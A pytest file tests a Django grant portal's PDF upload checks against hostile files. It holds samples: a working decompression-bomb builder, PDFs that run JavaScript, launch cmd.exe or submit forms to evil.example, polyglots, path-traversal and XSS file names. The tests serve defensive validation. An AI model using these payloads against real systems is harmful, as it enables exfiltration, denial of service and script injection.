import functools
import io
import re
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from grants.core.uploads import attachment_path, check_pdf, display_name

MB = 1024 * 1024
PNG_BYTES = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64


def pdf_bytes(pages: int = 1, password: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if password is not None:
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def upload(content: bytes, name: str = "narrative.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def refusal(file, *, max_bytes: int = 10 * MB, max_pages: int = 50) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_pdf(file, max_bytes=max_bytes, max_pages=max_pages)
    return caught.value


def test_check_pdf_returns_the_page_count_of_a_valid_pdf():
    assert check_pdf(upload(pdf_bytes(pages=2)), max_bytes=MB, max_pages=2) == 2


def test_check_pdf_rewinds_the_file_for_the_storage_to_save():
    file = upload(pdf_bytes())
    check_pdf(file, max_bytes=MB, max_pages=5)
    assert file.tell() == 0
    assert file.read() == pdf_bytes()


def test_check_pdf_accepts_a_signature_after_leading_junk():
    assert check_pdf(upload(b"\n" * 100 + pdf_bytes()), max_bytes=MB, max_pages=5) == 1


def test_check_pdf_rejects_an_empty_file():
    assert refusal(upload(b"")).code == "pdf_empty"


def test_check_pdf_rejects_a_png_renamed_to_pdf():
    error = refusal(upload(PNG_BYTES, name="x.pdf"))
    assert error.code == "pdf_wrong_type"


def test_check_pdf_rejects_a_docx_renamed_to_pdf():
    docx = b"PK\x03\x04" + b"\x00" * 26 + b"[Content_Types].xml" + b"\x00" * 2000
    assert refusal(upload(docx, name="proposal.pdf")).code == "pdf_wrong_type"


def test_check_pdf_rejects_a_signature_past_the_first_kilobyte():
    assert refusal(upload(b" " * 1024 + pdf_bytes())).code == "pdf_wrong_type"


def test_check_pdf_rejects_an_oversize_file_with_its_size_and_the_limit():
    error = refusal(upload(b"x" * (MB + 1)), max_bytes=MB)
    assert error.code == "pdf_too_large"
    assert error.messages == ["The file is 1.1 MB; attachments can be at most 1.0 MB."]


class Unreadable(io.BytesIO):
    def read(self, *args):
        raise AssertionError("the file was read")


def test_check_pdf_refuses_an_oversize_file_without_reading_it():
    file = upload(pdf_bytes())
    file.file = Unreadable()
    assert refusal(file, max_bytes=10).code == "pdf_too_large"


def test_check_pdf_rejects_too_many_pages_with_the_count_and_the_limit():
    error = refusal(upload(pdf_bytes(pages=3)), max_pages=2)
    assert error.code == "pdf_too_many_pages"
    assert error.messages == ["This PDF has 3 pages; attachments can have at most 2 pages."]


def test_check_pdf_says_page_in_the_singular_for_a_one_page_limit():
    error = refusal(upload(pdf_bytes(pages=2)), max_pages=1)
    assert error.messages == ["This PDF has 2 pages; attachments can have at most 1 page."]


def test_check_pdf_rejects_a_pdf_header_followed_by_garbage():
    garbage = b"%PDF-1.7\n" + bytes(range(256)) * 4
    assert refusal(upload(garbage)).code == "pdf_corrupt"


def test_check_pdf_rejects_a_truncated_pdf():
    content = pdf_bytes(pages=3)
    assert refusal(upload(content[: len(content) // 2])).code == "pdf_corrupt"


@pytest.mark.parametrize("password", ["secret", ""])
def test_check_pdf_rejects_an_encrypted_pdf(password):
    # Even with an empty user password: reviewers' tools must open it without prompting.
    assert refusal(upload(pdf_bytes(password=password))).code == "pdf_encrypted"


def test_check_pdf_rewinds_the_file_after_refusing_it():
    file = upload(pdf_bytes(pages=3))
    refusal(file, max_pages=2)
    assert file.tell() == 0


def test_attachment_path_ignores_the_users_file_name_and_path():
    path = attachment_path(None, "../../etc/passwd.pdf")
    assert re.fullmatch(r"attachments/[0-9a-f]{32}\.pdf", path)


def test_attachment_path_is_new_each_time():
    assert attachment_path(None, "a.pdf") != attachment_path(None, "a.pdf")


@pytest.mark.parametrize(
    ("filename", "expected"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\张三\\申请书.pdf", "申请书.pdf"),
        ("report\x00\x1b[31m.pdf", "report[31m.pdf"),
        ("evil\u202efdp.exe", "evilfdp.exe"),
        ('a<b>:"c"|?*.pdf', "abc.pdf"),
        ("  my   report .pdf ", "my report .pdf"),
        ("e\u0301te\u0301.pdf", "\u00e9t\u00e9.pdf"),
        ("..", "document.pdf"),
        ("/", "document.pdf"),
        ("", "document.pdf"),
    ],
)
def test_display_name_keeps_a_safe_base_name(filename, expected):
    assert display_name(filename) == expected


def test_display_name_truncates_long_names_but_keeps_the_extension():
    name = display_name("长" * 200 + ".pdf")
    assert name == "长" * 116 + ".pdf"
    assert len(name) == 120


# ---- hostile PDFs ---------------------------------------------------------------------------


def handmade_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", content=b"", filters=b""):
    """A one-page PDF written byte by byte, so a test can put into it exactly what an
    attacker would: its content stream is ``content`` (already encoded by ``filters``)."""
    stream = b"<< /Length %d %s >>\nstream\n%s\nendstream" % (
        len(content),
        b"/Filter " + filters if filters else b"",
        content,
    )
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        + page_extra
        + b" >>",
        stream,
    ]
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return out


@functools.cache
def deflated_zeros(megabytes: int) -> bytes:
    """``megabytes`` MB of zero bytes, deflated, built in milliseconds: after a full flush the
    compressor is back where it started, so each further megabyte deflates to the same bytes."""
    chunk = bytes(MB)
    packer = zlib.compressobj(9)
    first = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    ending = packer.flush()[:-4]  # the last block, without the checksum of two megabytes
    checksum = 1
    for _ in range(megabytes):
        checksum = zlib.adler32(chunk, checksum)
    return first + again * (megabytes - 1) + ending + struct.pack(">I", checksum)


def test_deflated_zeros_unpack_to_exactly_that_many_zeros():
    unpacked = zlib.decompress(deflated_zeros(3))
    assert unpacked == bytes(3 * MB)


def test_a_handmade_pdf_is_accepted_as_it_is():
    content = zlib.compress(b"BT /F1 12 Tf 72 712 Td (Hello) Tj ET")
    assert check_pdf(upload(handmade_pdf(content=content, filters=b"/FlateDecode")), **LIMITS) == 1


LIMITS = {"max_bytes": 20 * MB, "max_pages": 30}


def bounded_refusal(content: bytes):
    """The refusal of ``content``, with the most memory it held (speed is not asserted: the
    machines are shared; memory is what a bomb would exhaust)."""
    tracemalloc.start()
    try:
        error = refusal(upload(content), **LIMITS)
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return error, peak


def test_a_decompression_bomb_is_refused_quickly_in_bounded_memory():
    # 400 KB on disk, 400 MB once a viewer unpacks its only page.
    bomb = handmade_pdf(content=deflated_zeros(400), filters=b"/FlateDecode")
    assert len(bomb) < MB
    error, peak = bounded_refusal(bomb)
    assert error.code == "pdf_unpacks_too_large"
    assert error.messages == [
        "This PDF expands to more than 300 MB when opened. Please save it again with ordinary "
        "compression (for example by printing it to PDF) and re-upload it."
    ]
    assert peak < 20 * MB


def test_a_nested_decompression_bomb_is_refused_too():
    # Deflated twice: 2 KB on disk, 400 MB after both layers.
    twice = zlib.compress(deflated_zeros(400), 9)
    bomb = handmade_pdf(content=twice, filters=b"[/FlateDecode /FlateDecode]")
    assert len(bomb) < 10_000
    error, peak = bounded_refusal(bomb)
    assert error.code == "pdf_unpacks_too_large"
    assert peak < 20 * MB


def test_a_stream_just_under_the_unpacking_limit_is_accepted(monkeypatch):
    monkeypatch.setattr("grants.core.uploads.MAX_UNPACKED_BYTES", 30 * MB)
    document = handmade_pdf(content=deflated_zeros(29), filters=b"/Fl")
    assert check_pdf(upload(document), **LIMITS) == 1
    document = handmade_pdf(content=deflated_zeros(31), filters=b"/Fl")
    assert refusal(upload(document), **LIMITS).code == "pdf_unpacks_too_large"


def test_a_corrupt_stream_counts_only_as_far_as_it_unpacks():
    broken = deflated_zeros(1)[:-100] + b"\xff" * 100
    assert check_pdf(upload(handmade_pdf(content=broken, filters=b"/FlateDecode")), **LIMITS) == 1


ACTIVE = {
    "a script run on opening": (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b""),
    "a script under an escaped name": (b"/OpenAction << /S /J#61vaScript /JS (x) >>", b""),
    "a document-level script": (
        b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>",
        b"",
    ),
    "a program launched": (b"/OpenAction << /S /Launch /F (cmd.exe) >>", b""),
    "an embedded file": (
        b"/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) >>] >> >>",
        b"",
    ),
    "a form that sends itself away": (
        b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>",
        b"",
    ),
    "an XFA form": (b"/AcroForm << /Fields [] /XFA [] >>", b""),
    "a link that runs a script": (
        b"",
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/A << /S /JavaScript /JS (x) >> >>]",
    ),
    "a file attached to the page": (
        b"",
        b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (x.exe) >>]",
    ),
    "a web address opened on opening": (
        b"/OpenAction << /S /URI /URI (https://evil.example/read) >>",
        b"",
    ),
    "another file opened on opening": (
        b"/OpenAction << /S /GoToR /F (\\\\evil.example\\share\\x.pdf) /D [0 /Fit] >>",
        b"",
    ),
    "an embedded file opened on opening": (b"/OpenAction << /S /GoToE /D [0 /Fit] >>", b""),
    "a web address after a move on opening": (
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://e.example/) >>] >>",
        b"",
    ),
    "a web address opened with the page": (
        b"",
        b"/AA << /O << /S /URI /URI (https://e.example/) >> >>",
    ),
    "a web address opened on pointing at a link": (
        b"",
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/AA << /E << /S /URI /URI (https://e.example/) >> >> >>]",
    ),
}


@pytest.mark.parametrize("catalog, page", ACTIVE.values(), ids=ACTIVE.keys())
def test_check_pdf_refuses_active_content(catalog, page):
    error = refusal(upload(handmade_pdf(catalog_extra=catalog, page_extra=page)))
    assert error.code == "pdf_active_content"


def test_check_pdf_keeps_ordinary_web_links():
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.nsfc.gov.cn/) >> >>]"
    assert check_pdf(upload(handmade_pdf(page_extra=link)), **LIMITS) == 1


@pytest.mark.parametrize(
    "opening",
    [b"/OpenAction [3 0 R /Fit]", b"/OpenAction << /S /GoTo /D [3 0 R /FitH 800] >>"],
    ids=["a destination", "a move within the document"],
)
def test_check_pdf_keeps_an_opening_view_within_the_document(opening):
    assert check_pdf(upload(handmade_pdf(catalog_extra=opening)), **LIMITS) == 1


def written_by_pypdf(add):
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    add(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "add",
    [
        lambda writer: writer.add_open_action(JavaScript("app.alert('hi');")),
        lambda writer: writer.add_attachment("payload.exe", b"MZ"),
    ],
    ids=["a script", "an attachment"],
)
def test_check_pdf_refuses_active_content_written_by_an_ordinary_library(add):
    assert refusal(upload(written_by_pypdf(add))).code == "pdf_active_content"


POLYGLOTS = {
    "an HTML page behind a PDF header": b"%PDF-1.4\n<html><script>alert(1)</script></html>\n",
    "a ZIP archive behind a PDF header": b"%PDF-1.4\n" + b"PK\x03\x04" + bytes(60) + b"PK\x05\x06",
}


@pytest.mark.parametrize("content", POLYGLOTS.values(), ids=POLYGLOTS.keys())
def test_check_pdf_refuses_other_files_behind_a_pdf_header(content):
    assert refusal(upload(content)).code == "pdf_corrupt"


def test_check_pdf_refuses_a_pdf_with_a_zip_appended():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("payload.exe", b"MZ")
    error = refusal(upload(pdf_bytes() + archive.getvalue()))
    assert error.code == "pdf_extra_data"
    assert error.messages == [
        "This file contains other data besides the PDF. Please export your document as PDF "
        "again and upload that."
    ]


def test_check_pdf_refuses_html_before_the_pdf_header():
    page = b"<html><body><script>alert(document.cookie)</script></body></html>\n"
    assert refusal(upload(page + pdf_bytes())).code == "pdf_extra_data"


def test_check_pdf_accepts_line_ends_and_padding_after_the_end():
    assert check_pdf(upload(pdf_bytes() + b"\r\n\x00\x00\n"), max_bytes=MB, max_pages=5) == 1


def test_check_pdf_refuses_a_pdf_cut_before_its_end():
    content = pdf_bytes(pages=3)
    assert refusal(upload(content[:-200])).code == "pdf_corrupt"


# ---- through the proposal page, as an applicant uploads -------------------------------------


@pytest.fixture
def draft_page(client, reference, settings, tmp_path):
    """The lead signed in on their draft's edit page, with uploads kept in ``tmp_path``."""
    from tests.factories import make_call, make_proposal, make_user

    settings.MEDIA_ROOT = tmp_path
    lead = make_user(institution="复旦大学")
    proposal = make_proposal(make_call(), lead, partners=[make_user(institution="浙江大学")])
    client.force_login(lead)
    return proposal, tmp_path


def post_narrative(client, proposal, content, name="narrative.pdf"):
    from tests.grants.proposals.test_proposal_edit import form_data

    typed = form_data(proposal, title_zh="我输入的题目", section_basis="我写的研究基础 <b>&</b>")
    return client.post(
        f"/proposals/{proposal.pk}/edit/",
        {**typed, "narrative_pdf": SimpleUploadedFile(name, content, "application/pdf")},
    )


def assert_refused_beside_the_field_with_the_typing_kept(response, proposal, tmp_path, message):
    from grants.models import Proposal

    assert response.status_code == 200
    assert response.context["form"].errors["narrative_pdf"] == [message]
    assert 'value="我输入的题目"' in response.text
    assert "我写的研究基础 &lt;b&gt;&amp;&lt;/b&gt;" in response.text
    stored = Proposal.objects.get(pk=proposal.pk)
    assert not stored.narrative_pdf and stored.title_zh != "我输入的题目"
    assert not any(tmp_path.rglob("*.pdf"))


HOSTILE_UPLOADS = {
    "over the size limit": (
        lambda: pdf_bytes() + b"\n" * (MB + 1),
        "The file is 1.1 MB; attachments can be at most 1.0 MB.",
    ),
    "a decompression bomb": (
        lambda: handmade_pdf(content=deflated_zeros(400), filters=b"/FlateDecode"),
        "This PDF expands to more than 300 MB when opened. Please save it again with ordinary "
        "compression (for example by printing it to PDF) and re-upload it.",
    ),
    "a truncated PDF": (
        lambda: pdf_bytes(pages=3)[:-300],
        "This PDF is damaged or cannot be read. Please save it again and re-upload it.",
    ),
    "a script run on opening": (
        lambda: handmade_pdf(catalog_extra=ACTIVE["a script run on opening"][0]),
        "This PDF contains scripts, embedded files or actions that run when it is opened, "
        "which reviewers' computers must not receive. Please save it again without them (for "
        "example by printing it to PDF) and re-upload it.",
    ),
    "a ZIP appended": (
        lambda: pdf_bytes() + b"PK\x03\x04" + bytes(40) + b"PK\x05\x06" + bytes(18),
        "This file contains other data besides the PDF. Please export your document as PDF "
        "again and upload that.",
    ),
    "an HTML page with a PDF header": (
        lambda: POLYGLOTS["an HTML page behind a PDF header"],
        "This PDF is damaged or cannot be read. Please save it again and re-upload it.",
    ),
}


@pytest.mark.parametrize("content, message", HOSTILE_UPLOADS.values(), ids=HOSTILE_UPLOADS.keys())
def test_a_hostile_upload_is_refused_beside_the_field_and_nothing_typed_is_lost(
    client, draft_page, content, message
):
    proposal, tmp_path = draft_page
    proposal.call.attachment_max_mb = 1
    proposal.call.save()
    response = post_narrative(client, proposal, content())
    assert_refused_beside_the_field_with_the_typing_kept(response, proposal, tmp_path, message)


def test_a_hostile_file_name_is_stored_under_a_random_name_and_shown_escaped(client, draft_page):
    from grants.models import Proposal

    proposal, tmp_path = draft_page
    name = "../../etc/x'&y \u202egpj.\x00exe<img src=x onerror=alert(1)>.pdf"
    response = post_narrative(client, proposal, pdf_bytes(), name=name)
    assert response.status_code == 302
    stored = Proposal.objects.get(pk=proposal.pk)
    assert re.fullmatch(r"attachments/[0-9a-f]{32}\.pdf", stored.narrative_pdf.name)
    assert [path.name for path in tmp_path.rglob("*.pdf")] == [
        stored.narrative_pdf.name.split("/")[1]
    ]
    # No separators, control or direction characters, nor the characters of markup, are kept.
    assert stored.narrative_pdf_name == "x'&y gpj.exeimg src=x onerror=alert(1).pdf"
    page = client.get(f"/proposals/{proposal.pk}/edit/").text
    assert "x&#x27;&amp;y gpj.exeimg src=x onerror=alert(1).pdf</a>" in page


def test_the_stored_pdf_is_linked_through_its_download_page_and_can_be_cleared(client, draft_page):
    from grants.models import Proposal
    from tests.grants.proposals.test_proposal_edit import form_data

    proposal, tmp_path = draft_page
    assert post_narrative(client, proposal, pdf_bytes(), name="计划书.pdf").status_code == 302
    page = client.get(f"/proposals/{proposal.pk}/edit/")
    assert page.status_code == 200
    assert f'<a href="/proposals/{proposal.pk}/narrative/">计划书.pdf</a>' in page.text
    assert 'name="narrative_pdf-clear"' in page.text
    assert "Replace it with another file" in page.text
    assert "Remove the current file" in page.text
    proposal.refresh_from_db()
    cleared = client.post(
        f"/proposals/{proposal.pk}/edit/", {**form_data(proposal), "narrative_pdf-clear": "on"}
    )
    assert cleared.status_code == 302
    assert not Proposal.objects.get(pk=proposal.pk).narrative_pdf
